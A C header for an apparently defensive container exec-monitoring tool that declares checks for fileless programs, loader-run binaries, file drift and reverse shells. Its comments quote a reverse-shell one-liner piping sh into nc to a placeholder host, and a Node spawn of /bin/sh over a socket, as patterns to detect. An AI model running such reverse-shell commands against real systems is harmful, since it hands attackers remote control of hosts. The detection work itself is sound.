/* The exec protections beyond allow/deny lists, judged at PTRACE_EVENT_EXEC on
 * kernel state the process can no longer change: fileless programs, programs run
 * through the dynamic loader, drift (files that appeared or changed after the
 * container started) and reverse shells (a shell with its stdio on a network socket). */
#ifndef VIGIL_PROTECTIONS_H
#define VIGIL_PROTECTIONS_H

#include <stdbool.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <time.h>

#include "policy.h"
#include "procinfo.h"
#include "rules.h"

struct exec_facts {
    pid_t pid;
    const char *exe;          /* /proc/PID/exe as the kernel names it */
    const struct stat *exe_st; /* NULL when it could not be read */
    const char *script;       /* the #! script, or NULL */
    const struct stat *script_st;
    bool via_loader;          /* the exe is a dynamic loader run as a program */
    struct proc_snapshot *proc; /* the process's command line and ids, read once */
};

/* Remember when the container started: later files are drift. */
void protections_start_clock(void);

/* Refine an allowing verdict: the first protection that objects turns it into a
 * block (or an alert, for protections set to alert). */
void protections_judge(const struct policy *p, const struct exec_facts *f, struct verdict *v);

/* At a connect (netcheck.c): is process pid's stdin fed, through pipes or FIFOs, by a shell
 * that reads its commands from a standard input that is no terminal? Then pid is the relay
 * of a reverse shell (`cat f | sh 2>&1 | nc HOST PORT > f`). */
bool protections_fed_by_shell(pid_t pid);

/* At a connect: did process tgid start a shell that reads its commands from a pipe or socket
 * (not a terminal, not a file), and is that shell still running? Then tgid relays a reverse
 * shell itself (Node's `cp.spawn("/bin/sh")` piped to a socket). */
bool protections_relays_for_shell(pid_t tgid);

/* A traced task ended. */
void protections_forget(pid_t pid);

#endif
